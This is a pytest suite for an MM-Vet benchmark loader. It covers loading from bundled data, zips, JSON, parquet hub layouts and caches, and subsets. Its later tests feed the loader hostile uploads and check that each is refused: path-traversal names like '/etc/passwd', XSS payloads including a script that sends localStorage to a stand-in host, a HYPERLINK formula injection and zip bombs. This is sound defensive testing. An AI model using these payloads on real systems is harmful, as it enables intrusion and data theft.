"""Loading benchmarks from every source, and subsets. Everything runs offline.

Hub datasets are exercised through local parquet files (and fake local caches) in each hub layout; they go
through the same `benchmark_from_table` code as a real hub download.
"""
from __future__ import annotations

import io
import json
import os
import shutil
import socket
import tempfile
import time
import zipfile
from pathlib import Path

import pytest
from PIL import Image as PILImage

from mmvet_core.inputs.benchmark import BenchmarkError, load_bundled_v1
from mmvet_core.inputs.hub import hub_reachable
from mmvet_core.inputs.sources import ACCEPTED_SPECS, load_benchmark
from mmvet_core.inputs.subsets import load_subset, read_subset_ids

SHARED_DATA = Path(__file__).resolve().parent / "data"
V1_METADATA = SHARED_DATA / "mmvet-v1" / "mm-vet.json"
V2_README_SAMPLES = SHARED_DATA / "mmvet-v2-partial" / "mm-vet-v2_README_samples.json"

#: The paper's Table 3 order: integrations by sample count, ties by first appearance.
TABLE3_ORDER = ["rec_know_gen", "rec", "ocr_spat", "ocr_spat_math", "rec_spat", "ocr", "ocr_math", "rec_know",
                "rec_ocr_know_gen", "rec_ocr_gen_spat", "rec_ocr_spat", "rec_ocr", "ocr_know_spat", "rec_know_spat",
                "ocr_gen_spat", "rec_ocr_spat_math"]
WITH_IMAGES = ["v1_0", "v1_1", "v1_5"]          # samples that get a tiny image in the fixtures


def tiny_png(color: str = "red") -> bytes:
    buf = io.BytesIO()
    PILImage.new("RGB", (3, 2), color).save(buf, "PNG")
    return buf.getvalue()


def tiny_jpeg() -> bytes:
    buf = io.BytesIO()
    PILImage.new("RGB", (3, 2), "blue").save(buf, "JPEG")
    return buf.getvalue()


@pytest.fixture(scope="module")
def v1_metadata() -> dict:
    return json.loads(V1_METADATA.read_text(encoding="utf-8"))


@pytest.fixture
def no_hub(monkeypatch, tmp_path):
    """Empty HF caches, no offline flags, and a hub endpoint that refuses connections at once."""
    home = tmp_path / "hf-home"
    for var, sub in (("HF_HOME", ""), ("HF_DATASETS_CACHE", "datasets"), ("HF_HUB_CACHE", "hub")):
        monkeypatch.setenv(var, str(home / sub))
    for var in ("HF_HUB_OFFLINE", "HF_DATASETS_OFFLINE", "HTTPS_PROXY", "https_proxy", "ALL_PROXY", "all_proxy"):
        monkeypatch.delenv(var, raising=False)
    return home


def assert_same_content(loaded, reference, ids=None):
    for sid in ids or reference.ids:
        mine, ref = loaded.samples[sid], reference.samples[sid]
        assert (mine.question, mine.answer, mine.capabilities) == (ref.question, ref.answer, ref.capabilities), sid


# ---------------------------------------------------------------------------------------------------- bundled v1


def test_bundled_v1():
    bench = load_benchmark("mmvet-v1")
    assert (bench.name, bench.version, len(bench), bench.source) == ("mmvet-v1", "v1", 218, "bundled")
    assert bench.integrations == TABLE3_ORDER
    assert list(bench.integration_counts().values()) == [62, 37, 26, 14, 12, 12, 11, 9, 8, 8, 7, 4, 3, 2, 2, 1]
    assert bench.capability_counts() == {"rec": 150, "ocr": 96, "know": 84, "gen": 80, "spat": 75, "math": 26}
    assert bench.samples["v1_129"].question.endswith(" ")        # official quirk kept
    assert len(bench.bard_set) == 168


# ----------------------------------------------------------------------------------------- official folder / zip


def make_official_folder(root: Path, v1_metadata: dict) -> Path:
    folder = root / "mm-vet"
    (folder / "images").mkdir(parents=True)
    shutil.copy(V1_METADATA, folder / "mm-vet.json")
    for sid in WITH_IMAGES:
        (folder / "images" / v1_metadata[sid]["imagename"]).write_bytes(tiny_png())
    return folder


def test_official_folder_with_images(tmp_path, v1_metadata):
    folder = make_official_folder(tmp_path, v1_metadata)
    bench = load_benchmark(folder)
    assert (bench.name, bench.version, len(bench), bench.source) == ("mmvet-v1", "v1", 218, str(folder))
    assert bench.images_dir == folder / "images"
    assert bench.integrations == TABLE3_ORDER
    assert_same_content(bench, load_bundled_v1())
    for sid in WITH_IMAGES:
        assert bench.image_path(sid) == folder / "images" / v1_metadata[sid]["imagename"]
    with_files = {v1_metadata[sid]["imagename"] for sid in WITH_IMAGES}
    absent = next(sid for sid, e in v1_metadata.items() if e["imagename"] not in with_files)
    assert bench.samples[absent].image and bench.image_path(absent) is None   # named, but the file is absent
    assert len(load_subset(bench, "bard")) == 168               # official content: the bundled Bard set applies


def test_official_folder_one_level_down(tmp_path, v1_metadata):
    make_official_folder(tmp_path / "download", v1_metadata)
    bench = load_benchmark(str(tmp_path / "download"))
    assert len(bench) == 218 and bench.image_path("v1_0") is not None


def make_official_zip(path: Path, v1_metadata: dict) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.write(V1_METADATA, "mm-vet/mm-vet.json")
        for sid in WITH_IMAGES:
            zf.writestr(f"mm-vet/images/{v1_metadata[sid]['imagename']}", tiny_png())
        zf.writestr("__MACOSX/._mm-vet.json", b"junk")
    return path


def test_official_zip(tmp_path, v1_metadata):
    zpath = make_official_zip(tmp_path / "mm-vet.zip", v1_metadata)
    work = tmp_path / "work"
    bench = load_benchmark(zpath, work_dir=work)
    assert (bench.name, len(bench), bench.source) == ("mmvet-v1", 218, str(zpath))
    assert bench.images_dir is not None and bench.images_dir.is_relative_to(work.resolve())
    assert bench.image_path("v1_0").read_bytes() == tiny_png()
    assert bench.integrations == TABLE3_ORDER


def test_official_zip_default_work_dir(tmp_path, v1_metadata, monkeypatch):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "tmp"))        # keep the default temp dir in tmp_path
    (tmp_path / "tmp").mkdir()
    bench = load_benchmark(str(make_official_zip(tmp_path / "mm-vet.zip", v1_metadata)))
    assert bench.image_path("v1_1") is not None
    assert bench.images_dir.is_relative_to(tmp_path / "tmp")


def test_zip_without_metadata(tmp_path):
    zpath = tmp_path / "other.zip"
    with zipfile.ZipFile(zpath, "w") as zf:
        zf.writestr("readme.txt", "hello")
    with pytest.raises(BenchmarkError, match=r"other.zip: .*no mm-vet.json or mm-vet-v2.json found"):
        load_benchmark(zpath, work_dir=tmp_path / "work")


def test_unsafe_zip_is_a_benchmark_error(tmp_path):
    zpath = tmp_path / "mm-vet.zip"
    with zipfile.ZipFile(zpath, "w") as zf:
        zf.writestr("mm-vet/mm-vet.json", "{}")
        zf.writestr("../evil.txt", "x")
    with pytest.raises(BenchmarkError, match="path traversal"):
        load_benchmark(zpath, work_dir=tmp_path / "work")
    assert not (tmp_path / "evil.txt").exists()


# ------------------------------------------------------------------------------------------------ bare JSON


def test_bare_metadata_json(tmp_path):
    path = tmp_path / "my-copy.json"
    shutil.copy(V1_METADATA, path)
    bench = load_benchmark(path)
    assert (bench.name, bench.version, len(bench), bench.images_dir) == ("my-copy", "v1", 218, None)
    assert_same_content(bench, load_bundled_v1())
    assert bench.samples["v1_0"].image == "v1_0.png" and bench.image_path("v1_0") is None


def test_json_list_of_records(tmp_path, v1_metadata):
    records = [{"question_id": int(sid[3:]), "question": e["question"], "answer": e["answer"],
                "capability": ",".join(e["capability"])} for sid, e in list(v1_metadata.items())[:5]]
    path = tmp_path / "records.json"
    path.write_text(json.dumps(records))
    bench = load_benchmark(path)
    assert bench.ids == ["v1_0", "v1_1", "v1_2", "v1_3", "v1_4"]
    assert_same_content(bench, load_bundled_v1(), bench.ids)


@pytest.mark.parametrize("content, message", [
    pytest.param('{"v1_0": "a prediction"}', "not MM-Vet benchmark metadata", id="results-file"),
    pytest.param('{"v1_0": {"question": "q"}}', "missing field", id="missing-fields"),
    pytest.param("{not json", "not readable JSON", id="broken"),
])
def test_bad_metadata_json(tmp_path, content, message):
    path = tmp_path / "bad.json"
    path.write_text(content)
    with pytest.raises(BenchmarkError, match=message):
        load_benchmark(path)


# --------------------------------------------------------------------------------------------------- MM-Vet v2


def v2_metadata() -> dict:
    """The 9 real README samples in the mm-vet-v2.json schema, plus two synthetic image-sequence samples."""
    readme = json.loads(V2_README_SAMPLES.read_text(encoding="utf-8"))
    meta = {sid: {"question": f"{e['question_text_without_IMG_tag']}<IMG>{sid}_0.jpg", "answer": e["answer"],
                  "capability": e["capability"], "added_in": "v2"} for sid, e in readme.items()}
    meta["v2_900"] = {"question": "Which picture was taken first?<IMG>v2_900_0.png<IMG>v2_900_1.png",
                      "answer": "the first", "capability": ["seq", "rec"], "added_in": "v2"}
    meta["v2_901"] = {"question": "<IMG>v2_901_0.png<IMG>What changed?\nAnswer briefly.<IMG>v2_901_1.png",
                      "answer": "the colour", "capability": ["rec", "seq", "gen"], "added_in": "v2"}
    return meta


def test_v2_folder(tmp_path):
    folder = tmp_path / "mm-vet-v2"
    (folder / "images").mkdir(parents=True)
    meta = v2_metadata()
    (folder / "mm-vet-v2.json").write_text(json.dumps(meta))
    (folder / "images" / "v2_900_0.png").write_bytes(tiny_png())
    bench = load_benchmark(folder)
    assert (bench.name, bench.version, len(bench)) == ("mmvet-v2", "v2", 11)
    for sid, entry in meta.items():
        assert bench.samples[sid].question == entry["question"]            # kept exactly, <IMG> and all
    assert bench.samples["v2_511"].image == "v2_511_0.jpg"
    assert bench.samples["v2_901"].image == "v2_901_0.png"
    assert bench.samples["v2_900"].capabilities == ("rec", "seq")
    assert bench.samples["v2_511"].capabilities == ("rec", "ocr", "know", "spat")
    assert "seq" in bench.capabilities
    assert bench.image_path("v2_900") == folder / "images" / "v2_900_0.png"
    assert bench.bard_set is None
    with pytest.raises(BenchmarkError, match="only for MM-Vet v1"):
        load_subset(bench, "bard")


def test_v2_bare_json_detected_by_content(tmp_path):
    path = tmp_path / "v2-sample.json"
    path.write_text(json.dumps(v2_metadata()))
    bench = load_benchmark(path)
    assert (bench.name, bench.version) == ("v2-sample", "v2")


# ---------------------------------------------------------------------------------- hub layouts (as parquet)


@pytest.fixture(scope="module")
def hub_parquets(tmp_path_factory, v1_metadata) -> dict[str, Path]:
    """Parquet files laid out like each hub dataset, written by `datasets` itself (with Image columns)."""
    from datasets import Dataset, Features, Image, List, Value

    root = tmp_path_factory.mktemp("hub")
    ids = list(v1_metadata)

    def image(sid, path=None):
        return {"bytes": tiny_png(), "path": path} if sid in WITH_IMAGES else None

    # whyu/mm-vet: id, image (Image; the file name kept as the image's path), question, answer, capability list
    whyu = Dataset.from_dict({
        "id": ids,
        "image": [image(sid, v1_metadata[sid]["imagename"]) for sid in ids],
        "question": [v1_metadata[s]["question"] for s in ids],
        "answer": [v1_metadata[s]["answer"] for s in ids],
        "capability": [v1_metadata[s]["capability"] for s in ids],
    }, features=Features({"id": Value("string"), "image": Image(), "question": Value("string"),
                          "answer": Value("string"), "capability": List(Value("string"))}))
    # lmms-lab/MMVet: question_id "v1_N", image (Image, no path), image_source, capability "rec,know,gen"
    lmms = Dataset.from_dict({
        "question_id": ids,
        "image": [image(sid) for sid in ids],
        "question": [v1_metadata[s]["question"] for s in ids],
        "answer": [v1_metadata[s]["answer"] for s in ids],
        "image_source": [v1_metadata[s]["imagesource"] for s in ids],
        "capability": [",".join(v1_metadata[s]["capability"]) for s in ids],
    }, features=Features({"question_id": Value("string"), "image": Image(), "question": Value("string"),
                          "answer": Value("string"), "image_source": Value("string"),
                          "capability": Value("string")}))
    # whyu/mm-vet-v2: id, question with <IMG><image_N> placeholders, image_0.. columns, capability list, added_in
    v2 = Dataset.from_dict({
        "id": ["v2_0", "v2_1", "v2_2"],
        "question": ["What is this?<IMG><image_0>", "Compare<IMG><image_0><IMG><image_1>which is older?",
                     "No picture here"],
        "image_0": [{"bytes": tiny_png(), "path": None}, {"bytes": tiny_jpeg(), "path": None}, None],
        "image_1": [None, {"bytes": tiny_png("green"), "path": None}, None],
        "answer": ["a cat", "the left one", "ok"],
        "capability": [["rec"], ["rec", "seq", "know"], ["gen"]],
        "added_in": ["v1", "v2", "v2"],
    }, features=Features({"id": Value("string"), "question": Value("string"), "image_0": Image(),
                          "image_1": Image(), "answer": Value("string"), "capability": List(Value("string")),
                          "added_in": Value("string")}))
    paths = {}
    for name, ds in (("whyu-mm-vet", whyu), ("lmms-lab-MMVet", lmms), ("whyu-mm-vet-v2", v2)):
        paths[name] = root / name / "data" / "test-00000-of-00001.parquet"
        paths[name].parent.mkdir(parents=True)
        ds.to_parquet(str(paths[name]))
    arrow_dir = root / "lmms-arrow"
    lmms.save_to_disk(str(arrow_dir))
    paths["lmms-lab-MMVet.arrow"] = arrow_dir / "data-00000-of-00001.arrow"
    return paths


@pytest.mark.parametrize("layout", ["whyu-mm-vet", "lmms-lab-MMVet"])
def test_v1_hub_layouts(hub_parquets, tmp_path, v1_metadata, layout):
    bench = load_benchmark(hub_parquets[layout], work_dir=tmp_path / "work")
    assert (bench.version, len(bench)) == ("v1", 218)
    assert bench.integrations == TABLE3_ORDER
    assert_same_content(bench, load_bundled_v1())
    assert bench.images_dir == tmp_path / "work" / "images"
    for sid in WITH_IMAGES:
        assert bench.image_path(sid).read_bytes() == tiny_png()
    if layout == "whyu-mm-vet":                                   # the image's stored path gives its file name
        assert bench.samples["v1_0"].image == v1_metadata["v1_0"]["imagename"]
    else:                                                         # no name anywhere: <id>.<sniffed ext>
        assert bench.samples["v1_0"].image == "v1_0.png"
        assert bench.samples["v1_0"].image_source == "web"
    assert bench.image_path("v1_2") is None
    assert len(load_subset(bench, "bard")) == 168


def test_v2_hub_layout(hub_parquets, tmp_path):
    bench = load_benchmark(hub_parquets["whyu-mm-vet-v2"], work_dir=tmp_path / "work")
    assert (bench.version, bench.ids) == ("v2", ["v2_0", "v2_1", "v2_2"])
    # <image_N> placeholders become the file names written, as in the official mm-vet-v2.json
    assert bench.samples["v2_0"].question == "What is this?<IMG>v2_0_0.png"
    assert bench.samples["v2_1"].question == "Compare<IMG>v2_1_0.jpg<IMG>v2_1_1.png<IMG>which is older?"
    assert bench.samples["v2_2"].question == "No picture here"
    assert bench.samples["v2_1"].capabilities == ("rec", "know", "seq")
    assert bench.image_path("v2_1").name == "v2_1_0.jpg"
    assert (bench.images_dir / "v2_1_1.png").read_bytes() == tiny_png("green")
    assert bench.image_path("v2_2") is None


def test_folder_of_parquet(hub_parquets, tmp_path):
    folder = hub_parquets["whyu-mm-vet-v2"].parents[1]                 # a snapshot folder: data/test-*.parquet
    bench = load_benchmark(folder, work_dir=tmp_path)
    assert (bench.name, len(bench)) == ("whyu-mm-vet-v2", 3)


def test_parquet_without_required_columns(tmp_path):
    import pyarrow as pa
    import pyarrow.parquet as pq

    path = tmp_path / "other.parquet"
    pq.write_table(pa.table({"id": ["a"], "text": ["hello"]}), path)
    with pytest.raises(BenchmarkError, match="no answer, capability column"):
        load_benchmark(path)


def test_hub_file_cache_is_used_offline(hub_parquets, no_hub, monkeypatch, tmp_path):
    snapshot = no_hub / "hub" / "datasets--whyu--mm-vet-v2" / "snapshots" / "0123abc" / "data"
    snapshot.mkdir(parents=True)
    shutil.copy(hub_parquets["whyu-mm-vet-v2"], snapshot / "test-00000-of-00001.parquet")
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    bench = load_benchmark("mmvet-v2", work_dir=tmp_path / "work")
    assert (bench.name, bench.source, bench.version, len(bench)) == ("mmvet-v2", "mmvet-v2", "v2", 3)
    assert bench.image_path("v2_0") is not None


def test_datasets_arrow_cache_is_used_offline(hub_parquets, no_hub, tmp_path):
    build = no_hub / "datasets" / "lmms-lab___mm_vet" / "default" / "0.0.0" / "abc123"
    build.mkdir(parents=True)
    shutil.copy(hub_parquets["lmms-lab-MMVet.arrow"], build / "mm_vet-test.arrow")
    bench = load_benchmark("hf:lmms-lab/MMVet", work_dir=tmp_path / "work", hf_offline=True)
    assert (bench.name, bench.source, len(bench)) == ("lmms-lab/MMVet", "hf:lmms-lab/MMVet", 218)
    assert bench.integrations == TABLE3_ORDER


# ------------------------------------------------------------------------------------------ unreachable hub
# "Fast" is measured against what it replaces, not against an idle machine: the hub client's retries took ~23 s, and
# a busy machine needs seconds just to import `datasets`. Under FAIL_FAST_S is the former fixed, whatever the load.
FAIL_FAST_S = 15.0


def assert_clear_hub_error(excinfo, version="v1"):
    message = str(excinfo.value)
    assert "could not be reached" in message
    if version == "v2":   # v2's own archive, never v1's mm-vet.zip or the bundled v1
        assert "mm-vet-v2.zip" in message and "mm-vet.zip" not in message and "mmvet-v1" not in message
    else:
        assert "mm-vet.zip" in message and "mmvet-v1" in message


def test_offline_hub_fails_fast_with_env_flag(no_hub, monkeypatch):
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    start = time.monotonic()
    with pytest.raises(BenchmarkError) as excinfo:
        load_benchmark("mmvet-v2")
    assert time.monotonic() - start < FAIL_FAST_S
    assert_clear_hub_error(excinfo, "v2")
    assert "offline mode" in str(excinfo.value)


def test_offline_hub_fails_fast_with_parameter(no_hub):
    start = time.monotonic()
    with pytest.raises(BenchmarkError) as excinfo:
        load_benchmark("hf:whyu/mm-vet", hf_offline=True)
    assert time.monotonic() - start < FAIL_FAST_S
    assert_clear_hub_error(excinfo)


def test_unreachable_hub_fails_fast_without_env_flag(no_hub, monkeypatch):
    monkeypatch.setenv("HF_ENDPOINT", "https://127.0.0.1:9")           # nothing listens there
    start = time.monotonic()
    with pytest.raises(BenchmarkError) as excinfo:
        load_benchmark("hf:lmms-lab/MMVet")
    assert time.monotonic() - start < FAIL_FAST_S
    assert_clear_hub_error(excinfo)


def test_real_hub_without_network_fails_fast(no_hub):
    """No flag, the real endpoint: on a machine without network this must fail in seconds, not ~23 s."""
    if hub_reachable(3.0):
        pytest.skip("the Hugging Face hub is reachable from here")
    start = time.monotonic()
    with pytest.raises(BenchmarkError) as excinfo:
        load_benchmark("mmvet-v2")
    assert time.monotonic() - start < FAIL_FAST_S
    assert_clear_hub_error(excinfo, "v2")


def test_probe_is_bounded_when_the_server_never_answers(monkeypatch):
    silent = socket.socket()                    # accepts TCP connections (backlog) but never speaks TLS/HTTP
    silent.bind(("127.0.0.1", 0))
    silent.listen(8)
    try:
        monkeypatch.setenv("HF_ENDPOINT", f"https://127.0.0.1:{silent.getsockname()[1]}")
        for var in ("HTTPS_PROXY", "https_proxy", "ALL_PROXY", "all_proxy"):
            monkeypatch.delenv(var, raising=False)
        start = time.monotonic()
        assert hub_reachable(0.5) is False
        assert time.monotonic() - start < 5          # its 0.5 s, not the hub client's 10 s default: not a hang
    finally:
        silent.close()


@pytest.mark.parametrize("spec", ["hf:", "hf:not-a-repo", "hf:a/b/c"])
def test_bad_hub_ids(spec):
    with pytest.raises(BenchmarkError, match="not a Hugging Face dataset id"):
        load_benchmark(spec)


# ---------------------------------------------------------------------------------------------- bad specs


@pytest.mark.parametrize("spec", ["mmvet-v3", "", "whatever"])
def test_unknown_spec_lists_accepted_forms(spec):
    with pytest.raises(BenchmarkError) as excinfo:
        load_benchmark(spec)
    assert "accepted forms" in str(excinfo.value)
    assert all(form in str(excinfo.value) for form in ACCEPTED_SPECS)


@pytest.mark.parametrize("spec", ["missing/mm-vet.zip", "nothing-here.json"])
def test_missing_path(tmp_path, monkeypatch, spec):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(BenchmarkError, match="not found"):
        load_benchmark(spec)


def test_unrecognised_file(tmp_path):
    path = tmp_path / "notes.txt"
    path.write_text("hello")
    with pytest.raises(BenchmarkError, match="not a benchmark file"):
        load_benchmark(path)


# ----------------------------------------------------------------------------------------------------- subsets


@pytest.fixture(scope="module")
def bundled():
    return load_bundled_v1()


@pytest.mark.parametrize("spec", [None, "all", "ALL", ""])
def test_subset_all_is_unchanged(bundled, spec):
    assert load_subset(bundled, spec) is bundled


def test_bard_subset(bundled):
    bard = load_subset(bundled, "bard")
    assert (len(bard), bard.subset_name) == (168, "bard")
    assert bard.ids == [i for i in bundled.ids if i in set(bundled.bard_set)]    # benchmark order kept


def test_bard_subset_refused_for_other_v1_content(tmp_path, v1_metadata):
    changed = dict(v1_metadata)
    changed["v1_0"] = dict(changed["v1_0"], question="A different question?")
    path = tmp_path / "custom.json"
    path.write_text(json.dumps(changed))
    bench = load_benchmark(path)
    assert bench.bard_set is None
    with pytest.raises(BenchmarkError, match="Bard"):
        load_subset(bench, "bard")


def test_subset_from_json_list(bundled, tmp_path):
    path = tmp_path / "hard-ones.json"
    path.write_text(json.dumps(["v1_10", "v1_2", "v1_7"]))
    sub = load_subset(bundled, path)
    assert (sub.ids, sub.subset_name) == (["v1_2", "v1_7", "v1_10"], "hard-ones")


def test_subset_from_text_file(bundled, tmp_path):
    path = tmp_path / "ocr-check.txt"
    path.write_text("# my picks\nv1_3\n\nv1_1\r\nv1_3\n")
    sub = load_subset(bundled, str(path))
    assert (sub.ids, sub.subset_name) == (["v1_1", "v1_3"], "ocr-check")


def test_subset_with_unknown_ids(bundled, tmp_path):
    path = tmp_path / "typos.txt"
    path.write_text("v1_1\nv1_999\nv2_3\n")
    with pytest.raises(BenchmarkError, match=r"2 id\(s\) not in mmvet-v1: v1_999, v2_3"):
        load_subset(bundled, path)


@pytest.mark.parametrize("content, message", [
    pytest.param("", "names no sample ids", id="empty"),
    pytest.param("[]", "names no sample ids", id="empty-list"),
    pytest.param('[{"id": 1}]', "JSON list of sample ids", id="objects"),
    pytest.param("[v1_1", "not valid JSON", id="broken-json"),
])
def test_bad_subset_files(tmp_path, content, message):
    path = tmp_path / "subset.json"
    path.write_text(content)
    with pytest.raises(BenchmarkError, match=message):
        read_subset_ids(path)


def test_unknown_subset_spec(bundled):
    with pytest.raises(BenchmarkError, match="use 'all', 'bard'"):
        load_subset(bundled, "gpt4-set")


def test_unsafe_image_names_are_dropped(tmp_path, v1_metadata):
    """Regression: an uploaded metadata file must not make `image_path` point outside its images folder."""
    folder = make_official_folder(tmp_path, v1_metadata)
    (tmp_path / "secret.png").write_bytes(tiny_png())
    meta = dict(v1_metadata)
    meta["v1_0"] = dict(meta["v1_0"], imagename="../../secret.png")
    meta["v1_1"] = dict(meta["v1_1"], imagename="/etc/passwd")
    (folder / "mm-vet.json").write_text(json.dumps(meta))
    bench = load_benchmark(folder)
    assert bench.samples["v1_0"].image is None and bench.image_path("v1_0") is None
    assert bench.samples["v1_1"].image is None
    assert bench.image_path("v1_5") is not None


# ------------------------------------------------------------------ hostile uploads (issue 9, rows 1, 4, 6, 13)
from mmvet_core.inputs.archive import ArchiveLimits  # noqa: E402
from mmvet_core.inputs.housekeeping import FolderPolicy  # noqa: E402
from mmvet_core.inputs.hub import check_hub_id  # noqa: E402
from mmvet_core.inputs.sources import LoadLimits  # noqa: E402
from tests.hostile_files import write_zero_bomb  # noqa: E402


def test_zip_extracts_only_the_metadata_and_the_images_it_names(tmp_path, v1_metadata):
    """Stored XSS: an HTML/SVG page in the archive (or disguised under an image's name) is never written."""
    zpath = tmp_path / "mm-vet.zip"
    with zipfile.ZipFile(zpath, "w") as zf:
        zf.write(V1_METADATA, "mm-vet/mm-vet.json")
        zf.writestr(f"mm-vet/images/{v1_metadata['v1_0']['imagename']}", tiny_png())
        zf.writestr(f"mm-vet/images/{v1_metadata['v1_1']['imagename']}", b"<html><script>alert(1)</script>")
        zf.writestr("mm-vet/images/evil.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")
        zf.writestr("mm-vet/pwn.html", b"<script>fetch('//x/'+localStorage.a)</script>")
    work = tmp_path / "uploads"
    bench = load_benchmark(zpath, work_dir=work)
    written = sorted(str(p.relative_to(work)) for p in work.rglob("*") if p.is_file())
    folder = bench.images_dir.parent.name
    assert folder.startswith("zip-")
    assert written == [f"{folder}/.complete", f"{folder}/images/{v1_metadata['v1_0']['imagename']}",
                       f"{folder}/mm-vet.json"]
    assert bench.image_path("v1_0") is not None and bench.image_path("v1_1") is None


def test_zip_is_extracted_once_per_content(tmp_path, v1_metadata):
    zpath = make_official_zip(tmp_path / "mm-vet.zip", v1_metadata)
    work = tmp_path / "uploads"
    first = load_benchmark(zpath, work_dir=work)
    marker = first.images_dir / "marker"
    marker.write_text("still here")                     # a second extraction would start from a fresh folder
    copy = tmp_path / "again.zip"
    shutil.copy(zpath, copy)                            # same content, other name
    second = load_benchmark(copy, work_dir=work)
    assert second.images_dir == first.images_dir and marker.exists()
    assert [p.name for p in work.iterdir()] == [first.images_dir.parent.name]


def make_zero_bomb(path: Path, entries: int) -> Path:
    return write_zero_bomb(path, V1_METADATA, entries)


def test_zero_padding_zip_is_refused_before_writing_anything(tmp_path):
    zpath = make_zero_bomb(tmp_path / "mm-vet.zip", 300)                   # 300 MB of zeros in ~0.3 MB
    work = tmp_path / "uploads"
    limits = LoadLimits(archive=ArchiveLimits(max_total_uncompressed=200_000_000))
    with pytest.raises(BenchmarkError, match="more than the allowed 200.0 MB"):
        load_benchmark(zpath, work_dir=work, limits=limits)
    assert not work.exists() or not any(work.iterdir())


def test_padding_is_never_extracted_even_under_the_cap(tmp_path):
    zpath = make_zero_bomb(tmp_path / "mm-vet.zip", 20)
    work = tmp_path / "uploads"
    load_benchmark(zpath, work_dir=work)
    written = sum(p.stat().st_size for p in work.rglob("*") if p.is_file())
    assert written < 2 * V1_METADATA.stat().st_size                            # the metadata only, not 20 MB


def test_upload_folder_total_is_capped(tmp_path, v1_metadata):
    work = tmp_path / "uploads"
    old = work / "zip-old"
    old.mkdir(parents=True)
    (old / "big.bin").write_bytes(bytes(900_000))
    os.utime(old, (time.time() - 3600, time.time() - 3600))
    fresh = work / "zip-fresh"                                                  # in use right now: kept
    fresh.mkdir()
    (fresh / "big.bin").write_bytes(bytes(900_000))
    policy = FolderPolicy(max_bytes=1_500_000, min_age_s=60)
    zpath = make_official_zip(tmp_path / "mm-vet.zip", v1_metadata)
    bench = load_benchmark(zpath, work_dir=work, limits=LoadLimits(folder=policy))
    assert not old.exists() and fresh.exists() and bench.images_dir.is_dir()    # the oldest made room
    (fresh / "big.bin").write_bytes(bytes(1_400_000))
    other = tmp_path / "other.zip"
    with zipfile.ZipFile(other, "w") as zf:
        zf.write(V1_METADATA, "mm-vet.json")
    with pytest.raises(BenchmarkError, match="space for uploaded benchmarks is full"):
        load_benchmark(other, work_dir=work, limits=LoadLimits(folder=policy))


def test_benchmark_size_is_capped(tmp_path):
    path = tmp_path / "huge.json"
    path.write_text(json.dumps({f"v1_{i}": {"question": "q", "answer": "a", "capability": ["rec"]}
                                for i in range(3000)}))
    with pytest.raises(BenchmarkError, match="3,000 samples; at most 2,000"):
        load_benchmark(path, limits=LoadLimits(max_samples=2000))
    assert len(load_benchmark(path)) == 3000                                    # the CLI's default: no cap


@pytest.mark.parametrize("code", ["=HYPERLINK(\"http://x\")", "<img src=x>", "Rec", "../x", "a b"])
def test_capability_codes_are_restricted(tmp_path, code):
    path = tmp_path / "bench.json"
    path.write_text(json.dumps({"v1_0": {"question": "q", "answer": "a", "capability": ["rec", code]}}))
    with pytest.raises(BenchmarkError, match="capability code .* is not allowed"):
        load_benchmark(path)


@pytest.mark.parametrize("local", ["assets/examples", "data/uploads", "data/x"])
def test_hub_field_refuses_local_folders(tmp_path, monkeypatch, local):
    """datasets.load_dataset("assets/examples") loads the server's own folder: such ids never reach it."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "assets" / "examples").mkdir(parents=True)
    (tmp_path / "data" / "uploads").mkdir(parents=True)
    with pytest.raises(BenchmarkError, match="names a folder on this server"):
        load_benchmark(f"hf:{local}", hf_offline=False)


@pytest.mark.parametrize("bad", ["/etc/passwd", "./assets/examples", "../x/y", "a/../b", "~/x", "a/b/c", "a--b/c",
                                 "-a/b", "a/b.", "file:///etc/x", "a\\b/c", "a/" + "b" * 120])
def test_hub_field_refuses_malformed_ids(bad):
    with pytest.raises(BenchmarkError, match="not a Hugging Face dataset id"):
        check_hub_id(bad)
    assert check_hub_id(" lmms-lab/MMVet ") == "lmms-lab/MMVet"


@pytest.fixture
def fake_hub(no_hub, monkeypatch):
    """A hub API on 127.0.0.1 that reports a dataset's files and sizes (and logs every request)."""
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    state = {"size": 10_000_000_000, "requests": []}

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802
            state["requests"].append(self.path)
            body = json.dumps({"id": "someone/huge", "siblings": [
                {"rfilename": "data/test-0.parquet", "size": state["size"]},
                {"rfilename": "README.md", "size": 1000}]}).encode()
            self.send_response(200)
            self.send_header("content-type", "application/json")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    monkeypatch.setenv("HF_ENDPOINT", f"http://127.0.0.1:{server.server_address[1]}")
    for var in ("HTTP_PROXY", "http_proxy"):
        monkeypatch.delenv(var, raising=False)
    monkeypatch.setenv("NO_PROXY", "127.0.0.1,localhost")
    yield state
    server.shutdown()


def test_hub_dataset_too_large_is_refused_before_any_download(fake_hub):
    with pytest.raises(BenchmarkError, match=r"10,000 MB, more than the 500 MB accepted here; nothing was "):
        load_benchmark("hf:someone/huge", limits=LoadLimits(hub_max_bytes=500_000_000))
    assert fake_hub["requests"] == ["/api/datasets/someone/huge?blobs=true"]   # the size question only


def test_hub_size_check_fails_closed_when_the_hub_cannot_say(no_hub, monkeypatch):
    monkeypatch.setenv("HF_ENDPOINT", "http://127.0.0.1:9")                   # nothing listens there
    with pytest.raises(BenchmarkError, match="could not be reached to check the dataset's size"):
        load_benchmark("hf:someone/huge", limits=LoadLimits(hub_max_bytes=500_000_000))
